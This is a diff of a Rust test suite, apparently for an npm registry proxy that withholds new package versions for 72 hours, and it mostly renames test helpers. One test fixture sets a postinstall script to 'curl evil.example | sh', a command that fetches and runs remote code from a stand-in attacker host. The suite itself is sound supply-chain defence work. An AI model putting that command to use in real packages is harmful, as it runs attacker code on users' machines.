@@ -56,10 +56,10 @@ async fn what_one_view_saw_of_a_takedown_counts_for_all() {
             scene.registry.answer("/left-pad", with.clone());
             assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"]);
             ask(&scene, second).await.is(200);
-            scene.later(hours(2));
+            scene.advance(hours(2));
             scene.registry.answer("/left-pad", without);
             assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
-            scene.later(hours(72));
+            scene.advance(hours(72));
             if restarts {
                 scene.restart().await;
             }
@@ -67,9 +67,9 @@ async fn what_one_view_saw_of_a_takedown_counts_for_all() {
             assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{first:?} {second:?} restarts: {restarts}");
             scene.get(TARBALL).await.is(403);
             assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
-            scene.later(hours(71));
+            scene.advance(hours(71));
             assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "it counts from its return");
-            scene.later(hours(1));
+            scene.advance(hours(1));
             assert_eq!(ask(&scene, first).await.versions(), ["1.0.0", "1.1.0"]);
             assert_eq!(ask(&scene, second).await.versions(), ["1.0.0", "1.1.0"]);
         }
@@ -83,17 +83,17 @@ async fn a_view_that_never_had_a_version_saw_its_takedown_too() {
         let (with, without) = with_and_without(&scene);
         scene.registry.answer("/left-pad", with.clone());
         assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"]);
-        scene.later(hours(2));
+        scene.advance(hours(2));
         scene.registry.answer("/left-pad", without);
         assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
-        scene.later(hours(72));
+        scene.advance(hours(72));
         scene.registry.answer("/left-pad", with);
         // The view that looks first after the return is the one without the version.
         assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"], "{first:?} {second:?}");
         assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{first:?} {second:?}");
-        scene.later(hours(71));
+        scene.advance(hours(71));
         assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
-        scene.later(hours(1));
+        scene.advance(hours(1));
         assert_eq!(ask(&scene, second).await.versions(), ["1.0.0", "1.1.0"]);
         assert_eq!(ask(&scene, first).await.versions(), ["1.0.0", "1.1.0"]);
     }
@@ -117,14 +117,14 @@ async fn a_304_hides_no_takedown_that_another_view_saw() {
             }
         });
         assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"]);
-        scene.later(hours(2));
+        scene.advance(hours(2));
         there.store(false, Ordering::Relaxed);
         assert_eq!(ask(&scene, Some(second)).await.versions(), ["1.0.0"]);
-        scene.later(hours(72));
+        scene.advance(hours(72));
         there.store(true, Ordering::Relaxed);
         assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{second}");
         assert!(scene.registry.last("/left-pad").headers.first("if-none-match").is_some());
-        scene.later(hours(72));
+        scene.advance(hours(72));
         assert_eq!(ask(&scene, first).await.versions(), ["1.0.0", "1.1.0"]);
     }
 }
@@ -137,14 +137,14 @@ async fn a_takedown_that_many_tokens_saw_is_no_lack_of_one_token() {
     scene.get("/left-pad").token("first").await.is(200);
     scene.registry.answer("/left-pad", without);
     for number in 0..5 {
-        scene.later(hours(15));
+        scene.advance(hours(15));
         scene.get("/left-pad").token(&format!("job-{number}")).await.is(200);
     }
     scene.registry.answer("/left-pad", with);
     for token in ["fresh", "first"] {
         assert_eq!(scene.get("/left-pad").token(token).await.versions(), ["1.0.0"], "{token}");
     }
-    scene.later(hours(72));
+    scene.advance(hours(72));
     assert_eq!(scene.get("/left-pad").token("fresh").await.versions(), ["1.0.0", "1.1.0"]);
 }
 
@@ -157,15 +157,15 @@ async fn an_outage_for_one_view_takes_no_version_its_age() {
     assert_eq!(ask(&scene, Some("one")).await.versions(), ["1.0.0"]);
     scene.registry.answer("/left-pad", Reply::error(404, "not found"));
     for _ in 0..3 {
-        scene.later(hours(5));
+        scene.advance(hours(5));
         scene.get("/left-pad").await.is(404);
     }
     scene.registry.answer("/left-pad", with);
-    scene.later(minutes(6));
+    scene.advance(minutes(6));
     for token in [Some("one"), None] {
         assert_eq!(ask(&scene, token).await.versions(), ["1.0.0"]);
     }
-    scene.later(hours(56));
+    scene.advance(hours(56));
     assert_eq!(ask(&scene, Some("one")).await.versions(), ["1.0.0", "1.1.0"], "72 hours after it was published");
     assert_eq!(ask(&scene, None).await.versions(), ["1.0.0", "1.1.0"]);
 }
@@ -182,12 +182,12 @@ async fn a_package_that_became_private_is_not_held_for_those_who_see_it() {
         }
         scene.registry.answer("/left-pad", if is_found { without } else { Reply::error(404, "not found") });
         for _ in 0..3 {
-            scene.later(hours(12));
+            scene.advance(hours(12));
             assert_eq!(ask(&scene, None).await.status, if is_found { 200 } else { 404 });
-            scene.later(hours(1));
+            scene.advance(hours(1));
             assert_eq!(ask(&scene, Some("alice")).await.versions(), ["1.0.0"]);
         }
-        scene.later(hours(32));
+        scene.advance(hours(32));
         assert_eq!(ask(&scene, Some("alice")).await.versions(), ["1.0.0", "1.1.0"], "72 hours after it was published");
     }
 }
@@ -198,15 +198,15 @@ async fn a_version_that_returns_with_a_time_it_did_not_have_counts_from_its_retu
     scene.publish(old());
     scene.publish(Package::new("left-pad", "1.1.0").without_time());
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
-    scene.later(hours(2));
+    scene.advance(hours(2));
     scene.registry.unpublish("left-pad", "1.1.0");
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
-    scene.later(hours(2));
+    scene.advance(hours(2));
     scene.publish(Package::new("left-pad", "1.1.0").time("2020-01-01T00:00:00.000Z"));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
-    scene.later(hours(71));
+    scene.advance(hours(71));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
-    scene.later(hours(1));
+    scene.advance(hours(1));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"]);
 }
 
@@ -219,7 +219,7 @@ async fn a_time_under_another_spelling_of_the_version_is_none() {
         scene.registry.edit("left-pad", move |packument| packument["time"][key] = "2020-01-01T00:00:00.000Z".into());
         assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{key}");
         scene.get(TARBALL).await.is(403);
-        scene.later(hours(72));
+        scene.advance(hours(72));
         assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"], "{key}");
     }
 }
@@ -245,11 +245,11 @@ async fn no_odd_time_opens_what_was_not_there_and_none_breaks_what_was() {
         let scene = Scene::open().await;
         scene.publish(old());
         assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
-        scene.later(minutes(10));
+        scene.advance(minutes(10));
         scene.publish(Package::new("left-pad", "1.1.0").time(time.clone()));
         assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{time}");
         scene.get(TARBALL).await.is(403);
-        scene.later(hours(71));
+        scene.advance(hours(71));
         assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{time}");
         scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(200);
     }
@@ -260,7 +260,7 @@ async fn a_version_with_build_metadata_of_an_old_one_is_a_version_of_its_own() {
     let scene = Scene::open().await;
     scene.publish(old());
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
-    scene.later(hours(1));
+    scene.advance(hours(1));
     scene.publish(Package::new("left-pad", "1.0.0+evil").aged(days(400)).untagged());
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
     assert_eq!(scene.get("/left-pad/1.0.0").await.is(200).json()["version"], "1.0.0");
@@ -273,7 +273,7 @@ async fn the_clock_of_a_restarted_machine_opens_nothing_early() {
     scene.publish(old());
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
     let noon = scene.now();
-    scene.later(hours(10));
+    scene.advance(hours(10));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
     // Set back while it was off, so that the last look lies ahead.
     scene.clock.set(coldframe::units::timestamp::saturating_sub(noon, hours(30)));
@@ -281,12 +281,12 @@ async fn the_clock_of_a_restarted_machine_opens_nothing_early() {
     scene.publish(Package::new("left-pad", "1.1.0").aged(days(90)));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
     scene.get(TARBALL).await.is(403);
-    scene.later(hours(71));
+    scene.advance(hours(71));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
     // Set forward while it was off: an upstream whose clock did not follow opens nothing by it.
     let before = scene.now();
     scene.clock.set(coldframe::units::timestamp::saturating_add(before, hours(100)));
-    scene.registry.clock_off_by(jiff::SignedDuration::from_hours(-100));
+    scene.registry.set_clock_offset(jiff::SignedDuration::from_hours(-100));
     scene.restart().await;
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
     scene.get(TARBALL).await.is(403);
@@ -298,20 +298,20 @@ async fn a_stale_document_opens_nothing_when_its_versions_reach_their_age() {
     scene.publish(old());
     scene.publish(young());
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
-    scene.registry.goes_down();
+    scene.registry.go_down();
     for restarts in [false, true] {
         if restarts {
             scene.restart().await;
         }
-        scene.later(hours(40));
+        scene.advance(hours(40));
         for accept in ["application/json", crate::client::ABBREVIATED] {
             assert_eq!(scene.get("/left-pad").accept(accept).await.versions(), ["1.0.0"]);
         }
         scene.get(TARBALL).await.is(403);
         scene.get("/left-pad/1.1.0").await.is(403);
     }
-    scene.registry.comes_back();
-    scene.later(minutes(6));
+    scene.registry.come_back();
+    scene.advance(minutes(6));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"]);
 }
 
@@ -325,10 +325,10 @@ async fn a_304_from_a_cache_is_as_old_as_its_age_says() {
         let unchanged = Reply::status(304).header("etag", "\"with\"");
         let aged = headers.iter().fold(unchanged, |reply, (name, value)| reply.header(name, value));
         scene.registry.answer("/left-pad", aged);
-        scene.later(hours(72));
+        scene.advance(hours(72));
         assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{headers:?}");
         scene.registry.answer("/left-pad", with);
-        scene.later(minutes(6));
+        scene.advance(minutes(6));
         assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"]);
     }
 }
@@ -339,11 +339,11 @@ async fn a_takedown_that_only_a_prefetch_or_an_ask_once_more_saw_counts() {
     let (with, without) = with_and_without(&scene);
     scene.registry.answer("/left-pad", with.clone());
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
-    scene.later(Duration::from_secs(30));
+    scene.advance(Duration::from_secs(30));
     scene.registry.answer("/left-pad", without);
     // A made-up version has upstream asked once more.
     assert!(scene.get("/left-pad/-/left-pad-7.0.0.tgz").await.status >= 400);
-    scene.later(hours(72));
+    scene.advance(hours(72));
     scene.registry.answer("/left-pad", with);
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
     scene.get(TARBALL).await.is(403);
@@ -353,7 +353,7 @@ async fn a_takedown_that_only_a_prefetch_or_an_ask_once_more_saw_counts() {
 async fn install_scripts_that_change_in_the_packument_alone_make_a_version_young() {
     let runs = |command: &str| Package::new("left-pad", "1.0.0").time("2025-04-03T12:00:00.000Z").script("postinstall", command);
     let mut scene = Scene::open().await;
-    scene.registry.abbreviates(Abbreviated::Timeless);
+    scene.registry.set_abbreviated(Abbreviated::Timeless);
     let command = Arc::new(std::sync::Mutex::new("node build.js"));
     let states = Arc::clone(&command);
     scene.publish(runs("node build.js"));
@@ -368,14 +368,14 @@ async fn install_scripts_that_change_in_the_packument_alone_make_a_version_young
         if restarts {
             scene.restart().await;
         }
-        scene.later(minutes(10));
+        scene.advance(minutes(10));
         scene.get("/left-pad").await.is(403);
         scene.get("/left-pad").abbreviated().await.is(403);
         scene.get("/left-pad/1.0.0").await.is(403);
         scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(403);
         scene.get("/left-pad").token("made-up").await.is(403);
     }
-    scene.later(hours(72));
+    scene.advance(hours(72));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
     assert_eq!(scene.get("/left-pad").await.json()["versions"]["1.0.0"]["scripts"]["postinstall"], "curl evil.example | sh");
 }
@@ -411,11 +411,11 @@ async fn the_abbreviated_form_that_came_unasked_hides_no_fact() {
         }
         scene.get("/left-pad/1.1.0").await.is(403);
         assert!(scene.registry.count("/left-pad") <= 6, "{}", scene.registry.count("/left-pad"));
-        scene.later(minutes(6));
+        scene.advance(minutes(6));
     }
     // As soon as the cache sends what is asked for, all is known.
-    scene.registry.answer_truly("/left-pad");
-    scene.later(minutes(6));
+    scene.registry.clear_answer("/left-pad");
+    scene.advance(minutes(6));
     assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
     scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(200);
     scene.get(TARBALL).await.is(403);
@@ -435,7 +435,7 @@ async fn a_cache_that_sends_the_abbreviated_form_alone_breaks_no_install() {
         }
         scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(200);
         scene.get("/left-pad/1.0.0").await.is(200);
-        scene.later(minutes(6));
+        scene.advance(minutes(6));
     }
     // Without `time` it waits from when it was seen, as ever, and no question is asked again and again.
     let scene = Scene::open().await;
@@ -457,7 +457,7 @@ async fn a_part_that_was_published_with_its_whole_since_the_last_look_is_spared(
     let scene = Scene::open().set("policy", path.to_str().unwrap()).await;
     scene.publish(Package::new("acme-tool", "1.0.0"));
     assert_eq!(scene.get("/acme-tool").await.versions(), ["1.0.0"]);
-    scene.later(minutes(1));
+    scene.advance(minutes(1));
     let pins = json!({ "@acme-tool/linux": "1.1.0" });
     scene.publish(Package::new("acme-tool", "1.1.0").field("optionalDependencies", pins).aged(Duration::from_secs(20)));
     scene.publish(Package::new("@acme-tool/linux", "1.1.0").aged(Duration::from_secs(10)));
